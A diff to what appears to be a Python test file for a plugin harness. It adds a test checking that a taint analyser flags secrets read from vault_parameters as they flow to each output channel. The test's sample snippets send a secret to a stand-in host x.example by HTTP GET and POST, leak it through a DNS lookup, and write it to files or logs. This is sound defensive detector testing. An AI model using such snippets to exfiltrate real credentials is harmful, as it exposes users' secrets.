@@ -27,10 +27,12 @@ import harness
 import harness.threads
 from harness.cli import main
 from harness.document import DocumentData, StreamData
-from harness.fields import COVERAGE, walk
+from harness.fields import CHANNELS, COVERAGE, RUNTIME_ONLY, walk
 from harness.outbound import OutgoingRequest
 from harness.result import Change, ExtensionResult, LogEntry, LoggingRecord
 from harness.runner import Runner
+from harness.taint import CHANNELS as STATIC_CHANNELS
+from harness.taint import find_flows
 from harness.vault import LocalVault, VaultEntry
 from tests.conftest import loopback_server
 
@@ -105,6 +107,25 @@ def test_the_walker_yields_every_string_a_result_holds():
     missing = {t for t in tokens - not_output if t not in walked}
     assert not missing, f"fields the walker does not yield: {missing}"
     assert tokens - not_output  # the instance really was filled
+
+
+def test_every_walked_channel_is_known_and_every_static_channel_has_a_sink():
+    result = _filled(ExtensionResult, [0])
+    assert {f.channel for f in walk(result)} <= set(CHANNELS)
+    assert set(STATIC_CHANNELS) == set(CHANNELS) - set(RUNTIME_ONLY)
+    sinks = {
+        "log": "log(s)", "stdout": "print(s)", "stderr": "import sys\nprint(s, file=sys.stderr)",
+        "logging": "import logging\nlogging.getLogger(s)", "exception": "raise ValueError(s)",
+        "reason": "document.reject(s)", "metadata": "document.add_meta_data({'a': s})",
+        "data_stream": "document.DataStream(s)", "permissions": "document.Permission(s, 'User', 'p')",
+        "url": "import requests\nrequests.get('https://x.example/' + s)",
+        "plain_http": "import requests\nrequests.post('http://x.example/', data=s)",
+        "socket": "import socket\nsocket.gethostbyname(s)", "file": "open('f', 'w').write(s)",
+    }
+    assert set(sinks) == set(STATIC_CHANNELS), "a channel without a static sink: teach harness.taint about it"
+    for channel, code in sinks.items():
+        flows = find_flows("s = vault_parameters['k']\n" + code).flows
+        assert channel in {flow.channel for flow in flows}, channel
 
 
 # -- names the script chooses ----------------------------------------------------------------------
